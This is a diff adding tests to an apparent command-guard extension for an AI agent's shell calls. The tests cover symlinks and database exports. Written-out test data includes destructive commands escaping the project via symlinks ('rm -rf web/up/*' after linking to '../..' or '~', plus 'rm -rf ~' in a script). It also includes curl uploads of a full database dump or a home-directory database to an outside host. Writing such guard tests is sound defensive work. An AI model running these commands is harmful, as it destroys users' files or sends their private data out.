@@ -87,6 +87,37 @@ describe("the extension remembers what a session wrote", () => {
     expect(await hooks.handle(bash("rm -rf build"))).toEqual({ action: "continue" });
   });
 
+  test("a relative link target is relative to the link's directory, not the working directory", async () => {
+    // [link made, later command, decision]: links to project directories pass; links leaving the project stay stopped.
+    const cases: Array<[string, string, "continue" | "block"]> = [
+      ["mkdir -p web && ln -s ../out web/out", "rm -rf web/out/*", "continue"],
+      ["mkdir -p cache && ln -s ../samples/big cache/samples", "rm -f cache/samples/*.log", "continue"],
+      ["mkdir -p release && ln -s ../target release/pkg", "rsync -a --delete static/ release/pkg/", "continue"],
+      ["mkdir -p web && ln -s ../.. web/up", "rm -rf web/up/*", "block"],
+      ["mkdir -p web && ln -s ~ web/home", "rm -rf web/home/*", "block"],
+    ];
+    for (const [link, later, decision] of cases) {
+      const { hooks } = await handler();
+      expect(await hooks.handle(bash(link))).toEqual({ action: "continue" });
+      expect({ link, later, result: (await hooks.handle(bash(later))).action }).toEqual({ link, later, result: decision });
+    }
+  });
+
+  test("a query's rows saved from a project database are not the database file when sent", async () => {
+    const cases: Array<[string, string, "continue" | "confirm"]> = [
+      ["sqlite3 -header -csv data/shop.db 'SELECT sku, qty FROM stock' > reports/stock.csv", "curl -s -F upload=@reports/stock.csv http://127.0.0.1:5000/ingest", "continue"],
+      ["duckdb data/metrics.db -c 'select day, hits from visits' > visits.tsv", "curl -T visits.tsv http://localhost:8080/in", "continue"],
+      // The whole database as text, or a database in home, is still the database.
+      ["sqlite3 data/shop.db .dump > snapshot.txt", "curl -T snapshot.txt http://127.0.0.1:5000/in", "confirm"],
+      ["sqlite3 -csv ~/notes/app.db 'select * from notes' > notes.csv", "curl -T notes.csv https://files.example.net/", "confirm"],
+    ];
+    for (const [save, send, decision] of cases) {
+      const { hooks } = await handler();
+      expect(await hooks.handle(bash(save))).toEqual({ action: "continue" });
+      expect({ send, result: (await hooks.handle(bash(send))).action }).toEqual({ send, result: decision });
+    }
+  });
+
   test("sessions are kept apart, and a session's memory goes at on_session_end", async () => {
     const { hooks } = await handler();
     await hooks.handle(call("write", { path: "x.sh", content: "rm -rf ~\n" }, "a"));
